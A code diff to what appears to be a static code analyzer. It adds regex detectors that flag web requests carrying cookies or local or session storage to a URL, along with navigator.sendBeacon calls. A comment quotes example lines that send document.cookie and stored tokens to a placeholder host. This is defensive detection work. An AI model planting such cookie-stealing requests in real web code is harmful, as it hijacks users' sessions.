@@ -131,6 +131,13 @@ _URLOPEN_DATA = re.compile(
     + _STR
     + r"(?:[^)]{0,300}\bdata\s*=|\s*,\s*(?![A-Za-z_]\w*\s*=)[^\s,)])"
 )
+# A request whose address carries the browser's secrets: `fetch("https://x/?c=" + document.cookie)`,
+# `new Image().src = `https://x/${localStorage.token}``, `navigator.sendBeacon(url, …)`.
+_URL_WITH_BROWSER_SECRET = re2.compile(
+    r"""(['"`])(https?://[^'"`\s]{1,300}?)(?:['"`]\s*\+\s*|\$\{\s*)(?:[\w.]+\(\s*)?"""
+    r"""(?:document\.cookie|(?:local|session)Storage\b|JSON\.stringify\(\s*(?:local|session)Storage)"""
+)
+_BEACON = re.compile(r"navigator\.sendBeacon\s*\(\s*" + _STR)
 _FETCH = re.compile(
     r"(?:requests\.get|httpx\.get|urlopen|urlretrieve|fetch|axios\.get|http\.get|https\.get"
     r"|require\(\s*['\"]https?['\"]\s*\)\.get"
@@ -453,6 +460,8 @@ def analyze_code(code: str, classifier: PathClassifier) -> CodeAnalysis:
         add("read", "$ENV", "code")
     if ("cookie" in code or "Storage" in code) and _BROWSER_SECRETS.search(code):
         add("read", "$BROWSER", "code")  # the user's sessions: cookies, stored tokens
+        for m in _URL_WITH_BROWSER_SECRET.finditer(code[:20_000]):
+            add("send", m.group(2), "code")
     out.secret_env = credential_reads_in_code(code)
     if "http" in code:
         for m in _URL_WITH_ENV.finditer(code[:20_000]):
@@ -480,7 +489,7 @@ def analyze_code(code: str, classifier: PathClassifier) -> CodeAnalysis:
                 out.shell.append(payload)
     if "script" in code:
         out.shell.extend(m.group(1) for m in _APPLESCRIPT_SHELL.finditer(code))
-    for pattern in (_SEND, _FETCH_POST, _URLOPEN_DATA):
+    for pattern in (_SEND, _FETCH_POST, _URLOPEN_DATA, _BEACON):
         for m in pattern.finditer(code):
             add("send", m.group(2), "code")
     for m in _FETCH.finditer(code):
